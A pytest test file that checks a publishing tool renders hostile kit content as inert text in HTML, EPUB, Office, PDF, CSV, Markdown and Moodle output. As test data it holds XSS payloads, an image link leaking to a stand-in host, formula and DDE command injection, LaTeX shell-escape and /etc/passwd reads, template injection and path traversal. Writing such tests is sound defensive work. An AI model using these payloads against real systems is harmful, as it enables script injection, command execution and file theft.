"""Markup, formulas and commands in notes are published as plain text."""

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from lxml import etree, html
from markdown_it import MarkdownIt
from markdown_it.token import Token
from pypdfium2 import PdfDocument

from tests.conftest import Command

HOSTILE = (
    "Ask <script>alert(1)</script> first.",
    'Open <img src=x onerror="alert(2)"> twice.',
    "Click [here](javascript:alert(3)) and [there](data:text/html,<script>alert(4)</script>).",
    "Look at ![it](http://evil.invalid/?leak=1) once.",
    '=HYPERLINK("http://evil.invalid/","9")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '#read("/etc/passwd") and #eval("1")',
    "\\input{/etc/passwd} \\write18{id} $x^2$",
    "```{=html}\n<script>alert(5)</script>\n```",
    "{{ 7 * 7 }} {% include 'kit.toml' %}",
)
ACTIVE = ("script", "iframe", "object", "embed")


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A kit with hostile cards and title, written without a model and published in every format."""
    from tests.conftest import run

    kit = tmp_path_factory.mktemp("hostile") / "kit"
    (kit / "methods").mkdir(parents=True)
    steps = "\n".join(f"{number}. {_escaped(text)}" for number, text in enumerate(HOSTILE, start=1))
    card = f"---\nid: hostile\n---\n\n# Get <b onclick=alert(6)>paid</b>\n\n## Steps\n\n{steps}\n"
    (kit / "methods" / "01-hostile.md").write_text(card, encoding="utf-8")
    settings = 'title = "Pay <script>alert(7)</script>"\nauthor = "=1+1"\nlanguage = "en"\n'
    settings += 'products = ["book", "webinar", "diy-kit", "course"]\n[model]\nspec = "none"\n'
    (kit / "kit.toml").write_text(settings, encoding="utf-8")
    ran = run("write", kit)
    assert "Traceback" not in ran.err
    ran = run("publish", kit)
    assert (kit / "published").is_dir(), ran.err + ran.out
    return kit / "published"


def _escaped(text: str) -> str:
    return re.sub(r"\s*\n\s*", " ", text)


def pages(published: Path) -> list[tuple[str, bytes]]:
    """Return every HTML page: of the site, single files, and members of EPUBs and packages."""
    found = [(str(path), path.read_bytes()) for path in published.rglob("*.html")]
    for path in [*published.rglob("*.epub"), *published.rglob("*.zip")]:
        with zipfile.ZipFile(path) as archive:
            members = [name for name in archive.namelist() if name.endswith((".html", ".xhtml"))]
            found += [(f"{path} {name}", archive.read(name)) for name in members]
    return found


def test_no_page_has_active_content_or_external_links(published: Path) -> None:
    found = pages(published)
    assert len(found) > 5
    for where, content in found:
        tree = html.fromstring(content)
        for script in tree.iter(*ACTIVE):
            assert "alert(" not in (script.text or ""), where
        for element in tree.iter(etree.Element):
            handlers = [name for name in element.attrib if name.lower().startswith("on")]
            assert handlers == [], where
            for name in ("href", "src", "action", "data", "formaction"):
                value = element.get(name, "").strip().lower()
                assert not value.startswith(("javascript:", "vbscript:", "data:text")), (where, value)
                assert "evil.invalid" not in value, (where, value)


def test_office_files_have_no_macro_no_field_and_no_link_out(published: Path) -> None:
    files = [*published.rglob("*.docx"), *published.rglob("*.pptx")]
    assert len(files) > 1
    for path in files:
        with zipfile.ZipFile(path) as archive:
            assert not [name for name in archive.namelist() if "vbaProject" in name or "embeddings" in name]
            for name in archive.namelist():
                text = archive.read(name).decode("utf-8", errors="replace")
                if name.endswith(".rels"):
                    assert "evil.invalid" not in text, (path, name)
                    assert "javascript:" not in text, (path, name)
                assert "w:instrText" not in text or "HYPERLINK" not in text or "evil" not in text, (path, name)


def test_a_pdf_shows_commands_as_words(published: Path) -> None:
    found = [*published.rglob("*.pdf")]
    assert found
    for path in found:
        content = path.read_bytes()
        assert b"/JavaScript" not in content
        assert b"/Launch" not in content
        text = "".join(page.get_textpage().get_text_range() for page in PdfDocument(content))
        assert "root:x:" not in text
    assert any(
        "#read" in "".join(p.get_textpage().get_text_range() for p in PdfDocument(f.read_bytes())) for f in found
    )


def test_no_cell_of_a_table_is_a_formula(published: Path) -> None:
    tables = [*published.rglob("*.csv")]
    assert tables
    for path in tables:
        for delimiter in ",;":
            rows = csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=delimiter)
            assert [cell for row in rows for cell in row if cell.lstrip().startswith(("=", "@", "+"))] == [], path


def test_markdown_has_no_html_and_no_active_links(published: Path) -> None:
    texts = []
    for path in published.rglob("md/*.zip"):
        with zipfile.ZipFile(path) as archive:
            texts += [archive.read(name).decode() for name in archive.namelist() if name.endswith((".md", ".txt"))]
    assert texts
    for text in texts:
        for token in _flat(MarkdownIt().parse(re.sub(r"\A---\n.*?\n---\n", "", text, flags=re.DOTALL))):
            assert token.type not in ("html_block", "html_inline") or token.content.startswith("<!--"), token.content
            assert not str(token.attrGet("href") or "").startswith(("javascript:", "data:")), token
            assert "evil.invalid" not in str(token.attrGet("src") or ""), token


def _flat(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _flat(token.children or [])


def test_every_question_for_moodle_is_plain_text(published: Path) -> None:
    found = [*published.rglob("*.gift")]
    assert found
    for path in found:
        questions = path.read_text(encoding="utf-8").split("\n\n")[1:]
        assert [each for each in questions if not re.match(r"::.*?(?<!\\)::\[plain\]", each)] == [], path


def test_a_hostile_kit_writes_no_file_outside_itself(kit_builder: Command, tmp_path: Path) -> None:
    kit = tmp_path / "kit"
    (kit / "methods").mkdir(parents=True)
    (kit / "kit.toml").write_text('title = "../../out"\n[model]\nspec = "none"\n', encoding="utf-8")
    card = "# ../../../escape\n\n## Steps\n\n1. Open the box.\n2. Count the sheets.\n"
    (kit / "methods" / "01-escape.md").write_text(card, encoding="utf-8")

    kit_builder("write", kit)
    kit_builder("publish", kit, "--to", "md,html")

    outside = [path for path in tmp_path.rglob("*") if path != kit and kit not in path.parents]
    assert outside == []
